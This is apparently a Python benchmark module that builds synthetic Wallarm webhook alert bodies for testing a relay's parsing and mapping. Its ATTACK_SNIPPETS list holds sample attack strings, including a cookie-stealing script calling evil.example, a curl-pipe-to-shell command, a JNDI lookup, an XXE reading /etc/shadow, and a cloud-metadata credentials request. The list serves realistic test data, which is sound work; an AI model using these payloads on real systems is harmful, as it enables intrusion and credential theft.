"""Realistic, reproducible Wallarm webhook bodies for the benchmark.

Hits follow the documented `new_hits` shape (tests/fixtures/wallarm/new_hits.json) with varied
attack payloads so one hit object is 1-3 KB of JSON, as real hits with a few payload strings are.
Other families reuse the documented fixture bodies (vulnerabilities, security issues, system and
audit events) with varied ids, names and times. Batch sizes are log-uniform over 1..500: most
webhooks are small, a few carry hundreds of hits (Wallarm groups hits per notification).
"""

from __future__ import annotations

import copy
import json
import math
import random
import string
from collections.abc import Sequence
from dataclasses import dataclass
from datetime import datetime
from pathlib import Path
from typing import Any

from shared.intake.mapping import map_event
from shared.intake.parse import parse_body
from shared.intake.selection import Selection, select
from shared.schema import Row

FIXTURES = Path(__file__).resolve().parent.parent / "tests" / "fixtures" / "wallarm"


def fixture_body(name: str) -> Any:
    """A documented Wallarm body from the test fixtures (read as data: bench does not import tests)."""
    return json.loads((FIXTURES / f"{name}.json").read_text(encoding="utf-8"))["body"]


JSON = "application/json"
NDJSON = "application/x-ndjson"
MAX_BATCH = 500

ATTACK_TYPES = ("sqli", "xss", "rce", "ptrav", "scanner", "brute", "xxe", "ssrf", "nosqli", "ldapi")
ATTACK_SNIPPETS = (
    "1' UNION SELECT username, password FROM users--",
    "<script>fetch('//evil.example/'+document.cookie)</script>",
    "../../../../etc/passwd%00",
    ";curl -s http://203.0.113.7/x.sh|sh;",
    "{{7*7}}${jndi:ldap://198.51.100.3/a}",
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/shadow">]><r>&x;</r>',
    "admin' OR '1'='1' /*",
    "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
)
PATHS = ("/", "/login", "/api/v1/users", "/api/v2/orders/search", "/wp-admin/admin-ajax.php", "/graphql")
HOSTS = ("example.com", "api.example.com", "shop.example.net", "portal.example.org")
SYSTEM_FIXTURES = (
    "create_user",
    "update_user",
    "delete_user",
    "rule_create",
    "rule_update",
    "trigger_update",
    "ip_blocked",
    "api_structure_changed",
    "attacks_exceeded",
    "number_of_requests_per_hour",
    "create_application",
)
VULN_FIXTURES = ("vuln_high", "vuln_medium", "vuln_low")
ISSUE_FIXTURES = (
    "security_issue_critical",
    "security_issue_high",
    "security_issue_medium",
    "security_issue_low",
    "security_issue_info",
)


@dataclass(frozen=True)
class Payload:
    """One webhook request body as Wallarm would POST it."""

    body: bytes
    content_type: str
    events: int
    kind: str  # hits | vulns | security_issues | system


def batch_size(rng: random.Random, high: int = MAX_BATCH) -> int:
    """Log-uniform over 1..high (median ~22, mean ~80 for 500)."""
    return min(high, max(1, int(math.exp(rng.uniform(0, math.log(high + 1))))))


def _hex(rng: random.Random, n: int) -> str:
    return "".join(rng.choice("0123456789abcdef") for _ in range(n))


def _ip(rng: random.Random) -> str:
    return f"{rng.randint(1, 223)}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"


def _attack(rng: random.Random, min_len: int, max_len: int) -> str:
    """An attack string: a real-looking snippet padded with encoded noise to a target length."""
    target = rng.randint(min_len, max_len)
    text = rng.choice(ATTACK_SNIPPETS)
    alphabet = string.ascii_letters + string.digits + "%&=+/"
    while len(text) < target:
        text += rng.choice(("&", "%27", "%20", "/", "=")) + "".join(
            rng.choices(alphabet, k=rng.randint(8, 40))
        )
    return text[:target]


def hit(rng: random.Random, when: int, *, headers: bool = False) -> dict[str, Any]:
    """One `new_hits` object, 1-3 KB as JSON."""
    template = fixture_body("new_hits")[0]
    obj = copy.deepcopy(template)
    h = obj["details"]["hit"]
    request_id = _hex(rng, 32)
    payloads = [_attack(rng, 60, 700) for _ in range(rng.randint(1, 3))]
    param = rng.choice(("id", "q", "search", "user", "file", "redirect"))
    h.update(
        {
            "host": rng.choice(HOSTS),
            "path": rng.choice(PATHS),
            "method": rng.choice(("GET", "POST", "PUT")),
            "payloads": payloads,
            "point": ["get", param] if rng.random() < 0.6 else ["post", "json_doc", "hash", param],
            "parameter": f"GET_{param}_value",
            "remote_addr4": _ip(rng),
            "remote_port": rng.randint(1024, 65535),
            "remote_country": rng.choice((None, "US", "DE", "NL", "CN", "BR")),
            "request_time": when,
            "create_time": when + rng.randint(0, 5),
            "response_status": rng.choice((200, 403, 404, 500)),
            "response_len": rng.randint(0, 50_000),
            "response_time": rng.randint(1, 2000),
            "type": rng.choice(ATTACK_TYPES),
            "block_status": rng.choice(("monitored", "blocked", "blocked")),
            "request_id": request_id,
            "id": [f"hits_production_{rng.randint(1000, 9999)}_202611_v_1", request_id],
            "stamps": [rng.randint(1000, 99999) for _ in range(rng.randint(1, 6))],
            "applications": [rng.choice(("default", "shop", "api", "portal"))],
        }
    )
    if headers:
        h["headers"] = {
            "HOST": [h["host"]],
            "USER-AGENT": ["Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko)"],
            "ACCEPT": ["*/*"],
            "COOKIE": [f"session={_hex(rng, 48)}"],
        }
    obj["details"]["client_name"] = "Contoso Security"
    return obj


def _from_fixture(rng: random.Random, name: str, index: int) -> dict[str, Any]:
    obj = copy.deepcopy(fixture_body(name)[0])
    details = obj.setdefault("details", {})
    details["client_name"] = "Contoso Security"
    for key in ("vuln", "security_issue"):
        if isinstance(details.get(key), dict):
            details[key]["id"] = rng.randint(1, 10_000_000)
            details[key]["path"] = rng.choice(PATHS)
    obj["summary"] = f"{obj.get('summary', '')} #{index}"
    return obj


def payloads(count: int, *, seed: int = 20261125, start: int = 1_795_000_000) -> list[Payload]:
    """`count` webhook bodies: ~80 % hit batches (1-500, 10 % NDJSON, 5 % with headers), then
    vulnerabilities, security issues and system/audit events in small batches (1-5)."""
    rng = random.Random(seed)
    out: list[Payload] = []
    serial = 0
    for n in range(count):
        when = start + n * 7
        roll = rng.random()
        if roll < 0.80:
            size = batch_size(rng)
            objs = [hit(rng, when, headers=rng.random() < 0.05) for _ in range(size)]
            kind = "hits"
        else:
            size = rng.randint(1, 5)
            names = VULN_FIXTURES if roll < 0.87 else ISSUE_FIXTURES if roll < 0.92 else SYSTEM_FIXTURES
            kind = "vulns" if roll < 0.87 else "security_issues" if roll < 0.92 else "system"
            objs = []
            for _ in range(size):
                serial += 1
                objs.append(_from_fixture(rng, rng.choice(names), serial))
        if kind == "hits" and rng.random() < 0.10:
            body = "\n".join(json.dumps(o) for o in objs).encode("utf-8")
            out.append(Payload(body, NDJSON, len(objs), kind))
        else:
            out.append(Payload(json.dumps(objs).encode("utf-8"), JSON, len(objs), kind))
    return out


def rows_of(payload: Payload, received_at: datetime, selection: Selection | None = None) -> list[Row]:
    """The rows the relay would send for `payload` (parse, select, map: the relay's own code)."""
    chosen = selection or Selection()
    parsed = parse_body(payload.body)
    rows: list[Row] = []
    for event in parsed.events:
        selected = select(event, chosen)
        if selected is not None:
            rows.append(map_event(selected, received_at))
    return rows


def realistic_rows(count: int, received_at: datetime, *, seed: int = 7) -> list[list[Row]]:
    """About `count` mapped rows grouped as webhooks would bring them (for backlog tests)."""
    groups: list[list[Row]] = []
    total = 0
    n = 0
    while total < count:
        batch = payloads(1, seed=seed * 1_000_003 + n, start=1_795_000_000 + n)[0]
        n += 1
        rows = rows_of(batch, received_at)[: count - total]
        if rows:
            groups.append(rows)
            total += len(rows)
    return groups


def summary(items: Sequence[Payload]) -> dict[str, Any]:
    """Counts and sizes for the results file."""
    hits_bytes = [len(p.body) / p.events for p in items if p.kind == "hits"]
    kinds: dict[str, int] = {}
    for p in items:
        kinds[p.kind] = kinds.get(p.kind, 0) + p.events
    return {
        "payloads": len(items),
        "events": sum(p.events for p in items),
        "bytes": sum(len(p.body) for p in items),
        "events_by_kind": kinds,
        "hit_bytes_avg": sum(hits_bytes) / len(hits_bytes) if hits_bytes else 0.0,
        "batch_min": min(p.events for p in items),
        "batch_max": max(p.events for p in items),
    }
